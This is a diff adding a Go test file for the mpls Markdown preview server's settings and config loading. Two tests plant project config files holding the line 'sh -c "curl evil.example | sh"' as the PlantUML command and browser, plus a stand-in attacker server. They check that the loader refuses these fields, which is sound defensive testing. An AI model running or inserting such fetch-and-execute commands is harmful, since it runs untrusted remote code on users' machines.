@@ -0,0 +1,224 @@
+package mpls
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/mhersson/mpls/internal/config"
+	"github.com/mhersson/mpls/internal/previewserver"
+	"github.com/mhersson/mpls/pkg/parser"
+	"github.com/mhersson/mpls/pkg/plantuml"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestUpdateSettings(t *testing.T) { //nolint:paralleltest // Modifies global parser and plantuml settings
+	style, emoji, server, checkLinks := parser.CodeHighlightingStyle, parser.EnableEmoji, plantuml.Server, CheckExternalLinks
+
+	t.Cleanup(func() {
+		parser.CodeHighlightingStyle, parser.EnableEmoji, plantuml.Server, CheckExternalLinks = style, emoji, server, checkLinks
+	})
+
+	parser.CodeHighlightingStyle = "github"
+	parser.EnableEmoji = false
+	plantuml.Server = "www.plantuml.com"
+	CheckExternalLinks = false
+
+	settings, err := config.Decode(map[string]any{"mpls": map[string]any{
+		"codeStyle":   "nord",
+		"enableEmoji": true,
+	}})
+	require.NoError(t, err)
+
+	change := updateSettings(settings)
+	assert.Equal(t, settingsChange{extensions: true}, change)
+	assert.Equal(t, "nord", parser.CodeHighlightingStyle)
+	assert.True(t, parser.EnableEmoji)
+	assert.Equal(t, "www.plantuml.com", plantuml.Server, "unset settings are kept")
+
+	// Settings equal to the current ones change nothing
+	assert.Equal(t, settingsChange{}, updateSettings(settings))
+
+	settings, err = config.Decode(map[string]any{
+		"plantuml":           map[string]any{"server": "localhost:8080"},
+		"checkExternalLinks": true,
+	})
+	require.NoError(t, err)
+
+	change = updateSettings(settings)
+	assert.Equal(t, settingsChange{plantUML: true, externalLinks: true}, change)
+	assert.Equal(t, "localhost:8080", plantuml.Server)
+	assert.True(t, CheckExternalLinks)
+}
+
+func TestUpdateSettings_PlantUMLRequests(t *testing.T) { //nolint:paralleltest // Modifies global plantuml settings
+	timeout, headers, concurrency := plantuml.Timeout, plantuml.Headers, plantuml.Concurrency
+
+	t.Cleanup(func() {
+		plantuml.Timeout, plantuml.Headers, plantuml.Concurrency = timeout, headers, concurrency
+	})
+
+	plantuml.Timeout = plantuml.DefaultTimeout
+	plantuml.Headers = nil
+
+	settings, err := config.Decode(map[string]any{
+		"plantuml": map[string]any{"timeout": "30s", "headers": map[string]any{"Authorization": "Bearer secret"}},
+	})
+	require.NoError(t, err)
+
+	assert.Equal(t, settingsChange{plantUML: true}, updateSettings(settings))
+	assert.Equal(t, 30*time.Second, plantuml.Timeout)
+	assert.Equal(t, map[string]string{"Authorization": "Bearer secret"}, plantuml.Headers)
+
+	assert.Equal(t, settingsChange{}, updateSettings(settings))
+
+	assert.Equal(t, settingsChange{}, updateSettings(config.Settings{PlantUML: config.PlantUML{Concurrency: ptr(8)}}),
+		"cached diagrams are kept")
+	assert.Equal(t, 8, plantuml.Concurrency)
+}
+
+func TestUpdateSettings_PlantUMLTheme(t *testing.T) { //nolint:paralleltest // Modifies global plantuml and preview settings
+	theme, format, match, skinparams := previewserver.Theme, plantuml.Format, MatchPlantUMLTheme, plantuml.Skinparams
+
+	t.Cleanup(func() {
+		previewserver.Theme, plantuml.Format, MatchPlantUMLTheme, plantuml.Skinparams = theme, format, match, skinparams
+	})
+
+	previewserver.Theme = "nord"
+	plantuml.Format = plantuml.FormatPNG
+	MatchPlantUMLTheme = false
+
+	settings, err := config.Decode(map[string]any{
+		"plantuml": map[string]any{"format": "svg", "matchTheme": true},
+	})
+	require.NoError(t, err)
+
+	assert.Equal(t, settingsChange{plantUML: true}, updateSettings(settings))
+	assert.Equal(t, plantuml.FormatSVG, plantuml.Format)
+	assert.Equal(t, previewserver.PlantUMLSkinparams("nord"), plantuml.Skinparams)
+
+	previewserver.Theme = "light"
+
+	updateSettings(config.Settings{})
+	assert.Equal(t, previewserver.PlantUMLSkinparams("light"), plantuml.Skinparams, "diagrams follow the theme")
+
+	updateSettings(config.Settings{PlantUML: config.PlantUML{MatchTheme: ptr(false)}})
+	assert.Empty(t, plantuml.Skinparams)
+}
+
+func TestApplyStartupSettings(t *testing.T) { //nolint:paralleltest // Modifies global preview and parser settings
+	port, tabs, openBrowser, theme, style := previewserver.FixedPort, previewserver.EnableTabs,
+		previewserver.OpenBrowserOnStartup, previewserver.Theme, parser.CodeHighlightingStyle
+
+	t.Cleanup(func() {
+		previewserver.FixedPort, previewserver.EnableTabs, previewserver.OpenBrowserOnStartup = port, tabs, openBrowser
+		previewserver.Theme, parser.CodeHighlightingStyle = theme, style
+	})
+
+	previewserver.FixedPort = 0
+	previewserver.EnableTabs = false
+	previewserver.OpenBrowserOnStartup = true
+	previewserver.Theme = "light"
+	parser.CodeHighlightingStyle = "catppuccin-mocha"
+
+	settings, err := config.Decode(map[string]any{
+		"port":   9000,
+		"noAuto": true,
+		"theme":  "gruvbox-dark",
+	})
+	require.NoError(t, err)
+
+	applyStartupSettings(settings)
+
+	assert.Equal(t, 9000, previewserver.FixedPort)
+	assert.False(t, previewserver.EnableTabs, "flags are kept when not overridden")
+	assert.False(t, previewserver.OpenBrowserOnStartup)
+	assert.Equal(t, "gruvbox-dark", previewserver.Theme)
+	assert.Equal(t, "gruvbox", parser.CodeHighlightingStyle, "code style follows the theme")
+}
+
+func TestLoadSettings(t *testing.T) { //nolint:paralleltest // Sets XDG_CONFIG_HOME and reads global settings
+	theme, style, emoji, port := previewserver.Theme, parser.CodeHighlightingStyle, parser.EnableEmoji, previewserver.FixedPort
+
+	t.Cleanup(func() {
+		previewserver.Theme, parser.CodeHighlightingStyle, parser.EnableEmoji, previewserver.FixedPort = theme, style, emoji, port
+	})
+
+	previewserver.Theme = "light"
+	parser.CodeHighlightingStyle = "catppuccin-mocha"
+	parser.EnableEmoji = false
+	previewserver.FixedPort = 8000
+
+	configHome := t.TempDir()
+	root := t.TempDir()
+
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+
+	require.NoError(t, os.MkdirAll(filepath.Join(configHome, "mpls"), 0o750))
+	require.NoError(t, os.WriteFile(filepath.Join(configHome, "mpls", "config.yaml"),
+		[]byte("theme: gruvbox-dark\nextensions: [emoji]\nport: 9000\n"), 0o600))
+	require.NoError(t, os.WriteFile(filepath.Join(root, config.ProjectFile),
+		[]byte("port: 9001\ncss: [project.css]\n"), 0o600))
+
+	settings, err := LoadSettings([]string{root})
+	require.NoError(t, err)
+
+	assert.Equal(t, "gruvbox-dark", *settings.Theme, "user config overrides flags")
+	assert.Equal(t, "gruvbox", *settings.CodeStyle, "code style follows the theme")
+	assert.True(t, *settings.EnableEmoji)
+	assert.Equal(t, 9001, *settings.Port, "project config overrides user config")
+	assert.Equal(t, []string{filepath.Join(root, "project.css")}, settings.CSS)
+	assert.False(t, *settings.Tabs, "flags are kept when not overridden")
+
+	require.NoError(t, os.WriteFile(filepath.Join(root, config.ProjectFile), []byte("port: [1]\n"), 0o600))
+
+	settings, err = LoadSettings([]string{root})
+	require.Error(t, err)
+	assert.Equal(t, 9000, *settings.Port, "invalid files are skipped")
+}
+
+func TestLoadSettings_ProjectCannotRunCommands(t *testing.T) { //nolint:paralleltest // Sets XDG_CONFIG_HOME and reads global settings
+	configHome := t.TempDir()
+	root := t.TempDir()
+
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+
+	require.NoError(t, os.MkdirAll(filepath.Join(configHome, "mpls"), 0o750))
+	require.NoError(t, os.WriteFile(filepath.Join(configHome, "mpls", "config.yaml"),
+		[]byte("plantuml:\n  command: plantuml -pipe\n"), 0o600))
+	require.NoError(t, os.WriteFile(filepath.Join(root, config.ProjectFile), []byte(`theme: nord
+plantuml:
+  command: sh -c "curl evil.example | sh"
+  headers:
+    Authorization: Bearer stolen
+`), 0o600))
+
+	settings, err := LoadSettings([]string{root})
+	require.ErrorContains(t, err, "plantuml.command cannot be set in a project file")
+	require.ErrorContains(t, err, "plantuml.headers cannot be set in a project file")
+
+	assert.Equal(t, "plantuml -pipe", *settings.PlantUML.Command, "the user's command is kept")
+	assert.Equal(t, plantuml.Headers, settings.PlantUML.Headers, "the project's headers are left out")
+	assert.Equal(t, "nord", *settings.Theme, "the rest of the project file is used")
+}
+
+func TestLoadSettings_ProjectCannotChooseBrowserOrServer(t *testing.T) { //nolint:paralleltest // Sets XDG_CONFIG_HOME and reads global settings
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+
+	root := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(root, config.ProjectFile), []byte(`browser: sh -c "curl evil.example | sh"
+plantuml:
+  server: evil.example
+  disableTLS: true
+`), 0o600))
+
+	settings, err := LoadSettings([]string{root})
+	require.ErrorContains(t, err, "browser cannot be set in a project file")
+	require.ErrorContains(t, err, "plantuml.server cannot be set in a project file")
+	require.ErrorContains(t, err, "plantuml.disableTLS cannot be set in a project file")
+
+	assert.NotContains(t, *settings.Browser, "evil.example", "the browser from the flags is kept")
+	assert.NotEqual(t, "evil.example", *settings.PlantUML.Server, "the server from the flags is kept")
+}